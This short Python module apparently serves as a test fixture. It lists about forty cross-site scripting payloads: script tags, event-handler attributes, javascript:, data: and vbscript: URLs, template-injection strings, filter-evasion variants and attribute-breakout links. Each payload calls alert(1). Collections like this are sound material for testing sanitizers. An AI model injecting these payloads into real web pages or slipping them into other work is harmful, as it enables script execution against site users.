"""Texts that have run as scripts on other people's pages; each tries to call `alert`."""

from __future__ import annotations

_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<template><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>", "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "`${alert(1)}`", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>", "<style>@import 'javascript:alert(1)'</style>",
)  # fmt: skip
_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/x", "blob:null/alert",
    "https://x.example/\"onclick=\"alert(1)", "https://x.example/' onmouseover='alert(1)",
)  # fmt: skip

PAYLOADS = _MARKUP + _LINKS
